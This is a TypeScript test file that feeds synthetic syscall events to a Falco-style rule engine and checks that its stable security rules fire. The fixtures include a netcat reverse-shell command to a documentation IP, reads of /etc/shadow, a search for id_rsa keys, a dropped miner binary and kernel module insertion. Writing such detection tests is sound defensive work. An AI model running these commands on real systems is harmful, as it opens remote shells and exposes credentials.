import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { describe, it } from 'node:test'
import { fileFd, syscallEvent } from './event-fixture.js'
import type { EventOverrides } from './event-fixture.js'
import { loadRuleSet } from './load-rule-set.js'
import { upstreamPath } from '../../tests/support/upstream.js'
import type { RuleSet } from './rule-set.js'

const STABLE_RULES = upstreamPath('falco-rules', 'falco_rules.yaml')
const skipReason = existsSync(STABLE_RULES) ? false : `stable rules not found at ${STABLE_RULES}`
if (skipReason !== false) console.log(`# skipping upstream rule detections: ${skipReason}`)

function exec(name: string, args: string[], extra: EventOverrides = {}): EventOverrides {
  return {
    type: 'execve',
    res: 0,
    args: { res: '0', exe: name },
    fd: null,
    ...extra,
    proc: { name, exe: name, exepath: `/usr/bin/${name}`, args, tty: 0, ...extra.proc },
  }
}

const inContainer = { container: {} }

/** Realistic events, each of which one stable rule must detect. */
const DETECTIONS: [string, EventOverrides][] = [
  [
    'Read sensitive file untrusted',
    { type: 'openat', args: { flags: 'O_RDONLY', name: '/etc/shadow' }, fd: fileFd('/etc/shadow') },
  ],
  [
    'Terminal shell in container',
    exec('bash', ['-i'], {
      ...inContainer,
      proc: { tty: 34816 },
      ancestors: [{ pid: 7, name: 'runc', exe: 'runc', exepath: '/usr/bin/runc', args: [] }],
    }),
  ],
  [
    'Netcat Remote Code Execution in Container',
    exec('nc', ['-e', '/bin/sh', '203.0.113.7', '4444'], inContainer),
  ],
  ['Search Private Keys or Passwords', exec('find', ['/', '-name', 'id_rsa'])],
  ['Execution from /dev/shm', exec('x', [], { proc: { exe: '/dev/shm/x' } })],
  [
    'Drop and execute new binary in container',
    exec('miner', [], { ...inContainer, proc: { is_exe_upper_layer: true } }),
  ],
  [
    'PTRACE attached to process',
    {
      type: 'ptrace',
      args: { res: '0', request: 'PTRACE_ATTACH', pid: '42' },
      proc: { name: 'evil' },
      fd: null,
    },
  ],
  [
    'Create Symlink Over Sensitive Files',
    { type: 'symlinkat', args: { res: '0', target: '/etc/shadow', linkpath: '/tmp/s' }, fd: null },
  ],
  [
    'Packet socket created in container',
    {
      type: 'socket',
      args: { fd: '3', domain: 'AF_PACKET', type: '3', proto: '0' },
      ...inContainer,
    },
  ],
  [
    'Linux Kernel Module Injection Detected',
    {
      type: 'finit_module',
      args: { res: '0', fd: '3' },
      proc: { name: 'insmod', cap_effective: 'CAP_SYS_MODULE CAP_SYS_ADMIN' },
      ...inContainer,
    },
  ],
  [
    'Disallowed SSH Connection Non Standard Port',
    {
      type: 'connect',
      proc: { name: 'ssh', exe: '/usr/bin/ssh', args: ['-p', '443', 'host'] },
      fd: {
        num: 3,
        type: 'ipv4',
        typechar: '4',
        name: '10.0.0.5:40000->203.0.113.7:443',
        l4proto: 'tcp',
        cip: '10.0.0.5',
        cport: 40000,
        sip: '203.0.113.7',
        sport: 443,
        is_server: false,
      },
    },
  ],
]

describe('stable upstream rules', { skip: skipReason }, () => {
  const ruleSet: RuleSet | undefined =
    skipReason === false ? loadRuleSet([STABLE_RULES], { ruleMatching: 'all' }) : undefined

  for (const [rule, overrides] of DETECTIONS) {
    it(`detect ${rule}`, () => {
      const matches = ruleSet?.evaluate(syscallEvent(overrides)) ?? []

      assert.ok(
        matches.some((match) => match.rule === rule),
        `matched ${JSON.stringify(matches.map((match) => match.rule))}`,
      )
    })
  }

  it('stay quiet on ordinary activity', () => {
    const ordinary: EventOverrides[] = [
      { type: 'openat', fd: fileFd('/etc/hosts') },
      exec('ls', ['-l']),
      exec('bash', ['-i'], { proc: { tty: 34816 } }),
      { type: 'close', fd: fileFd('/tmp/x') },
    ]

    for (const overrides of ordinary) {
      assert.deepEqual(ruleSet?.evaluate(syscallEvent(overrides)), [], JSON.stringify(overrides))
    }
  })
})
